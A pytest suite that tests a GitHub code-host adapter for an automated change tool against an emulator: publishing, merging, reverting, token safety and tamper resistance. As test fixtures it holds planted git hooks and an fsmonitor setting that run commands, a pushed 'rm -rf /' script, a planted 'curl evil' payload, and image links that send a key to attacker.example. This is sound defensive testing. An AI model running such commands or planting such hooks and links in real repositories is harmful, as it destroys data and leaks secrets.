"""GitHubCodeHost against the GitHub emulator: real PyGithub over HTTP, real git over smart HTTP."""

from __future__ import annotations

import logging
import os
import subprocess
from pathlib import Path

import pytest

from adapters.codehost.base import CodeHostError, PublishRequest
from adapters.codehost.github import GitHubCodeHost, parse_repo_url, transcript_comment
from conveyor.config import GitHubSettings, RepoPolicy, Settings
from conveyor.models import ChangeRequest, Identity
from tests.emulators.github_api import GitHubEmulator, github_emulator, make_bare_repo, push_commit  # noqa: F401

TOKEN = "ghp_TESTtoken0123456789abcdefSECRET"


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(cwd), *args], check=True, capture_output=True, text=True).stdout.strip()


def make_patch(bare: Path, sha: str, files: dict[str, str], tmp: Path) -> bytes:
    work = tmp / f"patch-{sha[:8]}-{len(list(tmp.iterdir()))}"
    subprocess.run(["git", "clone", "-q", str(bare), str(work)], check=True)
    git(work, "checkout", "-q", sha)
    for rel, text in files.items():
        (work / rel).parent.mkdir(parents=True, exist_ok=True)
        (work / rel).write_text(text)
    git(work, "add", "-A")
    return subprocess.run(["git", "-C", str(work), "diff", "--cached", "--binary"], check=True,
                          capture_output=True).stdout


class World:
    def __init__(self, emu: GitHubEmulator, tmp: Path, **policy: object):
        self.emu = emu
        self.tmp = tmp
        emu.add_token(TOKEN)
        self.bare, self.base_sha = make_bare_repo(tmp, "widgets", {"README.md": "# widgets\n", "src/app.py": "x = 1\n"})
        emu.add_repo("acme", "widgets", self.bare, required_checks=list(policy.pop("protect", [])))  # type: ignore[arg-type]
        self.settings = Settings(home=tmp / "home")
        self.policy = RepoPolicy(name="widgets", url=emu.repo_url("acme", "widgets"), host="github",
                                 **policy)  # type: ignore[arg-type]
        self.host = GitHubCodeHost(self.settings, GitHubSettings(token=TOKEN, api_url=emu.api_url), pacing=(0, 0))

    def request(self, files: dict[str, str], task_id: str = "t-1", transcript: str = "") -> PublishRequest:
        patch = make_patch(self.bare, self.base_sha, files, self.tmp)
        return PublishRequest(
            task_id=task_id, branch=f"conveyor/{task_id}-fix-it", base="main", base_sha=self.base_sha, patch=patch,
            commit_message=f"Fix it\n\nCo-authored-by: Alice <alice@example.com>\nConveyor-Task: {task_id}\n",
            title="Fix it", body="## What\nfix it", requester=Identity(kind="github", id="alice"),
            transcript_text=transcript,
        )


@pytest.fixture
def world(github_emulator: GitHubEmulator, tmp_path: Path) -> World:
    return World(github_emulator, tmp_path, required_checks=["ci/test", "lint"], labels=["bot"],
                 reviewers=["bob", "acme/core"])


def test_parse_repo_url() -> None:
    ref = parse_repo_url("https://ghe.example.com/acme/widgets.git")
    assert (ref.owner, ref.name, ref.clone_url) == ("acme", "widgets", "https://ghe.example.com/acme/widgets.git")
    assert parse_repo_url("git@github.com:acme/widgets.git").clone_url == "https://github.com/acme/widgets.git"
    with pytest.raises(CodeHostError, match="must look like"):
        parse_repo_url("https://github.com/acme")
    with pytest.raises(CodeHostError, match="no credentials"):
        parse_repo_url("https://x:secret@github.com/acme/widgets")


def test_unconfigured_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(CodeHostError, match="GITHUB_TOKEN"):
        GitHubCodeHost(Settings(home=tmp_path), GitHubSettings(token=""))


def test_read_side(world: World, tmp_path: Path) -> None:
    host, policy = world.host, world.policy
    assert host.resolve_base(policy, "main") == world.base_sha
    assert host.read_file(policy, world.base_sha, "src/app.py") == b"x = 1\n"
    assert host.read_file(policy, world.base_sha, "missing.txt") is None
    assert host.read_file(policy, world.base_sha, "src") is None
    commits = host.recent_commits(policy, world.base_sha, 5)
    assert [c.subject for c in commits] == ["initial"]
    assert sorted(commits[0].paths) == ["README.md", "src/app.py"]
    with pytest.raises(CodeHostError, match="404") as info:
        host.resolve_base(policy, "no-such-branch")
    assert not info.value.retryable

    dest = tmp_path / "ws"
    host.checkout(policy, world.base_sha, dest)
    assert (dest / "src/app.py").read_text() == "x = 1\n"
    assert git(dest, "rev-parse", "HEAD") == world.base_sha
    assert git(dest, "remote") == ""  # nothing pointing back at the trusted side
    # warm reuse: a later commit, with junk and a planted hook left behind by the last run
    new_sha = push_commit(world.bare, "main", {"src/app.py": "x = 2\n"}, "second", tmp_path)
    (dest / "junk.txt").write_text("left over")
    (dest / ".git/hooks").mkdir(exist_ok=True)
    (dest / ".git/hooks/post-checkout").write_text("#!/bin/sh\ntouch /tmp/pwned-by-hook\n")
    (dest / ".git/hooks/post-checkout").chmod(0o755)
    readme_inode = (dest / "README.md").stat().st_ino
    host.checkout(policy, new_sha, dest)
    assert (dest / "src/app.py").read_text() == "x = 2\n"
    assert not (dest / "junk.txt").exists()
    assert not (dest / ".git/hooks").exists()
    assert (dest / "README.md").stat().st_ino == readme_inode  # unchanged files are not rewritten
    assert git(dest, "status", "--porcelain") == "" and git(dest, "rev-parse", "HEAD") == new_sha
    assert host.recent_commits(policy, new_sha, 1)[0].subject == "second"

    # the last run tampered with a file AND forged the index so the change looks clean
    target = dest / "src/app.py"
    before = target.stat()
    target.write_text("x = 9\n")  # same size
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    git(dest, "update-index", "--skip-worktree", "src/app.py")
    assert git(dest, "status", "--porcelain") == ""  # git itself now believes the file is clean
    (dest / ".git/config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned-by-fsmonitor\n")
    host.checkout(policy, new_sha, dest)
    assert target.read_text() == "x = 2\n"
    assert "fsmonitor" not in (dest / ".git/config").read_text()


def test_publish_checks_merge(world: World) -> None:
    host, policy, emu = world.host, world.policy, world.emu
    req = world.request({"src/app.py": "x = 42\n", "NEW.md": "new\n"}, transcript="step 1\n```\nran tests\n```\n")
    change = host.publish(policy, req)
    assert change.number == 1 and change.branch == "conveyor/t-1-fix-it" and change.base == "main"
    assert change.url.endswith("/acme/widgets/pull/1")
    assert (change.files_changed, change.lines_added, change.lines_removed) == (2, 2, 1)
    pr = emu.pull("acme", "widgets", 1)
    assert pr.head_sha == change.head_sha == emu.branch_sha("acme", "widgets", change.branch)
    assert pr.labels == ["conveyor", "bot"]
    assert pr.reviewers == ["bob"] and pr.team_reviewers == ["core"]
    msg = git(world.bare, "log", "-1", "--format=%an <%ae>%n%B", change.head_sha)
    assert msg.startswith("Conveyor <conveyor@localhost>\nFix it") and "Co-authored-by: Alice" in msg
    assert git(world.bare, "rev-parse", f"{change.head_sha}^") == world.base_sha
    [comment] = pr.comments
    assert "<details>" in comment["body"] and "ran tests" in comment["body"] and "````text" in comment["body"]

    # a retried publish reuses the branch, the PR and the transcript comment
    again = host.publish(policy, req)
    assert again.number == 1 and again.head_sha == change.head_sha
    assert len(emu.repos[("acme", "widgets")].pulls) == 1 and len(pr.comments) == 1

    # CI gate: statuses AND check runs, only the required ones gate
    assert host.checks(policy, change).state == "pending"
    emu.set_check(change.head_sha, "ci/test", "success", kind="status")
    emu.set_check(change.head_sha, "lint", "in_progress")
    emu.set_check(change.head_sha, "optional", "failure")
    result = host.checks(policy, change)
    assert result.state == "pending" and "lint" in result.detail and "optional" in result.detail
    emu.set_check(change.head_sha, "lint", "failure", url="https://ci.example.com/lint/7")
    failed = host.checks(policy, change)
    assert failed.state == "failed" and failed.failing == ["lint: https://ci.example.com/lint/7"]
    emu.set_check(change.head_sha, "lint", "success")
    assert host.checks(policy, change).state == "green"
    assert host.base_ci_status(policy, change.head_sha) == "failing: optional"
    assert host.base_ci_status(policy, world.base_sha) == "unknown"

    result = host.merge(policy, change, change.head_sha, "Fix it (#1)\n\nApproved-by: bob")
    assert result.outcome == "merged" and result.merge_sha
    assert git(world.bare, "rev-parse", "main") == result.merge_sha
    assert git(world.bare, "rev-parse", f"{result.merge_sha}^2") == change.head_sha
    assert emu.branch_sha("acme", "widgets", change.branch) is None  # branch deleted
    # a retried merge is harmless
    assert host.merge(policy, change, change.head_sha, "Fix it").outcome == "merged"


def test_merge_refuses_moved_head_and_conflicts(world: World, tmp_path: Path) -> None:
    host, policy, emu = world.host, world.policy.model_copy(update={"required_checks": []}), world.emu
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    approved = change.head_sha
    # someone pushes to the PR branch after approval: the approved head is stale
    push_commit(world.bare, change.branch, {"evil.sh": "rm -rf /\n"}, "sneaky", tmp_path)
    moved = host.merge(policy, change, approved, "Fix it")
    assert moved.outcome == "head_moved"
    assert git(world.bare, "rev-parse", "main") == world.base_sha

    # GitHub's own 409 (head moved between our read and the merge call)
    current = emu.branch_sha("acme", "widgets", change.branch)
    emu.fail_next(r"/pulls/1/merge$", 409, "Head branch was modified. Review and try the merge again.", method="PUT")
    assert host.merge(policy, change, current, "Fix it").outcome == "head_moved"

    # a conflicting change on main: 405 not mergeable, never merged
    push_commit(world.bare, "main", {"src/app.py": "x = 7\n"}, "conflict", tmp_path)
    result = host.merge(policy, change, current, "Fix it")
    assert result.outcome == "not_mergeable" and "not mergeable" in result.detail
    assert emu.pull("acme", "widgets", 1).merged is False


def test_required_checks_block_merge_on_the_server(github_emulator: GitHubEmulator, tmp_path: Path) -> None:
    w = World(github_emulator, tmp_path, protect=["ci/test"], merge_method="squash")
    change = w.host.publish(w.policy, w.request({"src/app.py": "x = 3\n"}))
    blocked = w.host.merge(w.policy, change, change.head_sha, "Fix it")
    assert blocked.outcome == "not_mergeable" and "ci/test" in blocked.detail
    w.emu.set_check(change.head_sha, "ci/test", "success")
    merged = w.host.merge(w.policy, change, change.head_sha, "Fix it (#1)")
    assert merged.outcome == "merged"
    assert git(w.bare, "rev-list", "--count", "main") == "2"  # squashed: one new commit
    assert git(w.bare, "show", "main:src/app.py") == "x = 3"


def test_follow_up_publish_fast_forwards(world: World, tmp_path: Path) -> None:
    host, policy, emu = world.host, world.policy, world.emu
    first = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    # a follow-up task on the same branch: its agent ran on the branch head, base_sha is still main's
    patch = make_patch(world.bare, first.head_sha, {"src/more.py": "y = 1\n"}, tmp_path)
    follow = world.request({}).model_copy(update={
        "task_id": "t-2", "branch": first.branch, "patch": patch,
        "commit_message": "Follow up\n\nConveyor-Task: t-2\n"})
    second = host.publish(policy, follow)
    assert second.number == first.number and second.files_changed == 1
    assert git(world.bare, "rev-parse", f"{second.head_sha}^") == first.head_sha
    assert git(world.bare, "show", f"{second.head_sha}:src/app.py") == "x = 42"
    # retried follow-up: same head, no new commit
    assert host.publish(policy, follow).head_sha == second.head_sha
    # a re-run of the first task replaces only its own commit attempt, never someone else's
    rerun = world.request({"src/app.py": "x = 43\n"})
    emu_branch = emu.branch_sha("acme", "widgets", first.branch)
    assert emu_branch == second.head_sha
    third = host.publish(policy, rerun.model_copy(update={"task_id": "t-3",
                                                          "commit_message": "Third\n\nConveyor-Task: t-3\n",
                                                          "patch": make_patch(world.bare, second.head_sha,
                                                                              {"c.txt": "c\n"}, tmp_path)}))
    assert git(world.bare, "rev-parse", f"{third.head_sha}^") == second.head_sha


def test_close_and_comment(world: World) -> None:
    host, policy, emu = world.host, world.policy, world.emu
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    host.comment(policy, change, "x" * 70000)
    body = emu.pull("acme", "widgets", 1).comments[-1]["body"]
    assert len(body) <= 65536 and body.endswith("(truncated)")
    host.close(policy, change, "rejected by bob: not needed")
    pr = emu.pull("acme", "widgets", 1)
    assert pr.state == "closed" and pr.comments[-1]["body"] == "rejected by bob: not needed"
    host.close(policy, change, "again")  # idempotent
    assert len(pr.comments) == 2


def test_revert_graphql_and_fallback(world: World) -> None:
    host, policy, emu = world.host, world.policy.model_copy(update={"required_checks": []}), world.emu
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    merged = host.merge(policy, change, change.head_sha, "Fix it (#1)")
    # default: a revert PR opened for review
    res = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"\n\nasked by bob', "t-1", emergency=False)
    assert res.pending_review and not res.already and res.url.endswith("/pull/2")
    revert_pr = emu.pull("acme", "widgets", 2)
    assert revert_pr.head.startswith("revert-1-") and "conveyor:revert:t-1" in revert_pr.body
    assert git(world.bare, "rev-parse", "main") == merged.merge_sha  # nothing landed yet
    # idempotent, and an emergency revert of the same task merges the open one
    again = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"', "t-1", emergency=False)
    assert again.already and again.url == res.url and len(emu.repos[("acme", "widgets")].pulls) == 2
    now = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"', "t-1", emergency=True)
    assert now.revert_sha and git(world.bare, "show", "main:src/app.py") == "x = 1"
    done = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"', "t-1", emergency=True)
    assert done.already and done.revert_sha == now.revert_sha

    # a server without revertPullRequest (older GHES): revert commit on a branch + PR, emergency merge
    emu.graphql_revert = False
    change2 = host.publish(policy, world.request({"README.md": "# changed\n"}, task_id="t-2")
                           .model_copy(update={"base_sha": now.revert_sha,
                                               "patch": make_patch(world.bare, now.revert_sha, {"README.md": "# changed\n"}, world.tmp)}))
    merged2 = host.merge(policy, change2, change2.head_sha, "Readme (#3)")
    res2 = host.revert(policy, "main", merged2.merge_sha, 'Revert "Readme"', "t-2", emergency=True)
    assert not res2.pending_review and res2.revert_sha
    assert git(world.bare, "show", "main:README.md") == "# widgets"
    assert emu.branch_sha("acme", "widgets", "conveyor/revert-t-2") is None


def test_retryable_and_permanent_errors(world: World) -> None:
    host, policy, emu = world.host, world.policy, world.emu
    emu.fail_next(r"/branches/main$", 429, headers={"Retry-After": "0"})
    assert host.resolve_base(policy, "main") == world.base_sha  # a 429 then success

    emu.fail_next(r"/branches/main$", 403, "You have exceeded a secondary rate limit.", headers={"Retry-After": "60"})
    with pytest.raises(CodeHostError, match="rate limited") as info:
        host.resolve_base(policy, "main")
    assert info.value.retryable

    emu.fail_next(r"/branches/main$", 403, "API rate limit exceeded for installation ID 1.",
                  headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "9999999999"})
    with pytest.raises(CodeHostError, match="rate limited") as info:
        host.resolve_base(policy, "main")
    assert info.value.retryable

    emu.fail_next(r"/branches/main$", 502, times=5)
    with pytest.raises(CodeHostError, match="server error") as info:
        host.resolve_base(policy, "main")
    assert info.value.retryable

    emu.add_token("readonly", permission="read")
    ro = GitHubCodeHost(world.settings, GitHubSettings(token="readonly", api_url=emu.api_url), pacing=(0, 0))
    change = ChangeRequest(number=1, branch="b", head_sha="0" * 40, base="main")
    emu._create_pull(emu.repos[("acme", "widgets")], "x", "t", "", "main", "main")
    with pytest.raises(CodeHostError, match=r"acme/widgets.*403.*Pull requests: write") as info:
        ro.comment(policy, change, "hi")
    assert not info.value.retryable

    bad = GitHubCodeHost(world.settings, GitHubSettings(token="wrong", api_url=emu.api_url), pacing=(0, 0))
    with pytest.raises(CodeHostError, match="401.*GITHUB_TOKEN") as info:
        bad.resolve_base(policy, "main")
    assert not info.value.retryable

    ghost = policy.model_copy(update={"url": emu.repo_url("acme", "ghost")})
    with pytest.raises(CodeHostError, match=r"404.*acme/ghost.*Contents: read") as info:
        host.resolve_base(ghost, "main")
    assert not info.value.retryable


def test_token_never_leaks(world: World, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    host, policy, emu = world.host, world.policy, world.emu
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    dest = tmp_path / "checkout"
    host.checkout(policy, change.head_sha, dest)
    assert emu.git_auth and set(emu.git_auth) == {"x-access-token"}  # git did authenticate, with the token

    errors = []
    bad = GitHubCodeHost(world.settings, GitHubSettings(token=TOKEN + "-revoked", api_url=emu.api_url), pacing=(0, 0))
    for call in (lambda: bad.resolve_base(policy, "main"), lambda: bad.checkout(policy, "f" * 40, tmp_path / "c2")):
        with pytest.raises(CodeHostError) as info:
            call()
        errors.append(str(info.value))
    assert "Authentication failed" in errors[1] or "401" in errors[1] or "could not read" in errors[1].lower()

    haystacks = [caplog.text, *errors]
    for root in (dest, world.settings.workspaces_dir):
        for path in root.rglob("*"):
            if path.is_file():
                haystacks.append(path.read_bytes().decode("latin-1"))
    import base64
    b64 = base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
    for text in haystacks:
        assert TOKEN not in text and b64 not in text
    config = (dest / ".git/config").read_text()
    assert "extraHeader" not in config and "http" not in config


def test_transcript_comment_fits() -> None:
    big = "".join(f"line {i} ``` {'y' * 50}\n" for i in range(5000))
    body = transcript_comment(big)
    assert len(body) <= 65536 and "characters cut" in body and "truncated" in body
    assert body.startswith("<!-- conveyor:transcript -->\n<details>") and body.rstrip().endswith("</details>")
    assert "line 0 " in body and "line 4999 " in body
    assert "````text" in body  # fence longer than any backtick run inside


def test_github_app_installation_tokens(github_emulator: GitHubEmulator, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    public = key.public_key().public_bytes(serialization.Encoding.PEM,
                                           serialization.PublicFormat.SubjectPublicKeyInfo).decode()
    emu = github_emulator
    emu.configure_app("4242", public)
    bare, base_sha = make_bare_repo(tmp_path, "widgets", {"a.txt": "a\n"})
    emu.add_repo("acme", "widgets", bare, installation_id=7)
    key_file = tmp_path / "app.pem"
    key_file.write_text(pem)
    settings = Settings(home=tmp_path / "home")
    host = GitHubCodeHost(settings, GitHubSettings(app_id="4242", app_private_key=str(key_file), api_url=emu.api_url),
                          pacing=(0, 0))
    policy = RepoPolicy(name="w", url=emu.repo_url("acme", "widgets"), host="github")

    assert host.resolve_base(policy, "main") == base_sha
    assert emu.tokens_issued == 1
    host.checkout(policy, base_sha, tmp_path / "ws")  # git authenticates with the installation token
    assert host.resolve_base(policy, "main") == base_sha
    assert emu.tokens_issued == 1  # cached while valid

    emu.expire_installation_tokens()  # GitHub now answers 401 to the cached token: refreshed once
    assert host.resolve_base(policy, "main") == base_sha
    assert emu.tokens_issued == 2
    assert set(emu.git_auth) == {"x-access-token"}

    # git over HTTPS with a token GitHub stopped accepting: refreshed once, then the fetch works
    new_sha = push_commit(bare, "main", {"a.txt": "b\n"}, "second", tmp_path)
    emu.expire_installation_tokens()
    host.checkout(policy, new_sha, tmp_path / "ws")
    assert (tmp_path / "ws" / "a.txt").read_text() == "b\n"
    assert emu.tokens_issued == 3
    assert host.resolve_base(policy, "main") == new_sha and emu.tokens_issued == 3

    emu.installation_token_ttl = 60  # a token close to expiry is replaced before use
    emu.expire_installation_tokens()
    host.resolve_base(policy, "main")
    host.resolve_base(policy, "main")
    assert emu.tokens_issued == 5

    # the App is not installed on this repository: a clear, permanent error
    bare2, _ = make_bare_repo(tmp_path, "other", {"b.txt": "b\n"})
    emu.add_repo("acme", "other", bare2, installation_id=None)
    other = policy.model_copy(update={"url": emu.repo_url("acme", "other")})
    with pytest.raises(CodeHostError, match=r"404.*acme/other.*App must be installed") as info:
        host.resolve_base(other, "main")
    assert not info.value.retryable

    wrong = GitHubCodeHost(settings, GitHubSettings(app_id="999", app_private_key=pem, api_url=emu.api_url), pacing=(0, 0))
    with pytest.raises(CodeHostError, match="401.*GITHUB_APP_ID") as info:
        wrong.resolve_base(policy, "main")
    assert not info.value.retryable


def test_push_without_write_permission_is_clear(world: World) -> None:
    world.emu.add_token("ro-token", permission="read")
    ro = GitHubCodeHost(world.settings, GitHubSettings(token="ro-token", api_url=world.emu.api_url), pacing=(0, 0))
    with pytest.raises(CodeHostError, match=r"(?s)git push to conveyor/t-1-fix-it failed for .*acme/widgets.*403.*Contents: write") as info:
        ro.publish(world.policy, world.request({"src/app.py": "x = 5\n"}))
    assert not info.value.retryable
    assert "ro-token" not in str(info.value)
    assert world.emu.branch_sha("acme", "widgets", "conveyor/t-1-fix-it") is None


def test_revert_that_conflicts_is_a_clear_permanent_error(world: World, tmp_path: Path) -> None:
    host, policy, emu = world.host, world.policy.model_copy(update={"required_checks": []}), world.emu
    emu.graphql_revert = False
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    merged = host.merge(policy, change, change.head_sha, "Fix it (#1)")
    push_commit(world.bare, "main", {"src/app.py": "x = 43\n"}, "later edit of the same line", tmp_path)
    with pytest.raises(CodeHostError, match="conflicts with later changes") as info:
        host.revert(policy, "main", merged.merge_sha, "Revert", "t-1", emergency=True)
    assert not info.value.retryable
    assert git(world.bare, "show", "main:src/app.py") == "x = 43"


def test_rebase_merge_and_its_revert_without_graphql(world: World) -> None:
    host, emu = world.host, world.emu
    policy = world.policy.model_copy(update={"required_checks": [], "merge_method": "rebase"})
    emu.graphql_revert = False
    first = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    follow = world.request({}).model_copy(update={
        "base_sha": first.head_sha, "commit_message": "Second step",
        "patch": make_patch(world.bare, first.head_sha, {"src/extra.py": "y = 2\n"}, world.tmp)})
    second = host.publish(policy, follow)
    merged = host.merge(policy, second, second.head_sha, "Fix it")
    assert merged.outcome == "merged"
    assert git(world.bare, "rev-list", "--count", "main") == "3"  # two commits replayed, no merge commit
    result = host.revert(policy, "main", merged.merge_sha, "Revert fix it", "t-9", emergency=True)
    assert result.revert_sha and not result.pending_review
    assert git(world.bare, "show", "main:src/app.py") == "x = 1"
    assert "src/extra.py" not in git(world.bare, "ls-tree", "-r", "--name-only", "main")


def test_emergency_revert_ignores_a_planted_pr_carrying_the_marker(world: World) -> None:
    """Anyone can open a PR whose body holds `<!-- conveyor:revert:TASK -->` (the task id is public
    in the branch name); an emergency revert must not adopt and merge it."""
    host, policy, emu = world.host, world.policy.model_copy(update={"required_checks": []}), world.emu
    change = host.publish(policy, world.request({"src/app.py": "x = 42\n"}))
    merged = host.merge(policy, change, change.head_sha, "Fix it (#1)")
    evil = push_commit(world.bare, "main", {"src/app.py": "import os; os.system('curl evil')\n"}, "evil", world.tmp)
    git(world.bare, "update-ref", "refs/heads/mallory-revert", evil)
    git(world.bare, "update-ref", "refs/heads/main", merged.merge_sha)  # main itself untouched
    repo = emu.repos[("acme", "widgets")]
    planted = emu._create_pull(repo, "mallory", 'Revert "Fix it"', "<!-- conveyor:revert:t-1 -->", "mallory-revert", "main")

    res = host.revert(policy, "main", merged.merge_sha, 'Revert "Fix it"', "t-1", emergency=True)
    assert res.revert_sha and not res.already
    assert emu.pull("acme", "widgets", planted.number).state == "open"  # never merged
    assert git(world.bare, "show", "main:src/app.py") == "x = 1"


def test_untrusted_text_in_bodies_and_comments_cannot_ping_or_embed_images(world: World) -> None:
    host, policy, emu = world.host, world.policy, world.emu
    evil = ("Done. cc @acme/everyone @octocat ![s](https://attacker.example/p.png?k=AKIASECRET) "
            '<img src="https://attacker.example/2"> (mail: dev@example.com)')
    change = host.publish(policy, world.request({"src/app.py": "x = 7\n"}).model_copy(update={"body": evil}))
    host.comment(policy, change, "agent says: @acme/core look ![x](https://attacker.example/c)")
    host.close(policy, change, "rejected by @octocat: ![y](https://attacker.example/r)")
    pr = emu.pull("acme", "widgets", change.number)  # type: ignore[arg-type]
    texts = [pr.body] + [c["body"] for c in pr.comments if "conveyor:transcript" not in c["body"]]
    assert len(texts) == 3 and "attacker.example/p.png" in pr.body and "dev@example.com" in pr.body
    for text in texts:
        assert "![" not in text and "<img" not in text, text
        assert "@acme/" not in text and "@octocat" not in text, text


def test_renamed_in_tree_symlink_that_escapes_is_refused(world: World, tmp_path: Path) -> None:
    """The patch text shows no mode for a pure rename; only the applied tree reveals that
    `sub/link -> ../README.md` moved to the top points out of the tree."""
    work = tmp_path / "symlink-work"
    subprocess.run(["git", "clone", "-q", str(world.bare), str(work)], check=True)
    (work / "sub").mkdir()
    os.symlink("../README.md", work / "sub" / "link")
    git(work, "add", "sub")
    git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "in-tree link")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/main")
    base = git(work, "rev-parse", "HEAD")
    patch = b"diff --git a/sub/link b/link\nsimilarity index 100%\nrename from sub/link\nrename to link\n"
    req = world.request({}).model_copy(update={"patch": patch, "base_sha": base})
    with pytest.raises(CodeHostError, match="points outside the tree") as err:
        world.host.publish(world.policy, req)
    assert not err.value.retryable
    assert world.emu.branch_sha("acme", "widgets", req.branch) is None
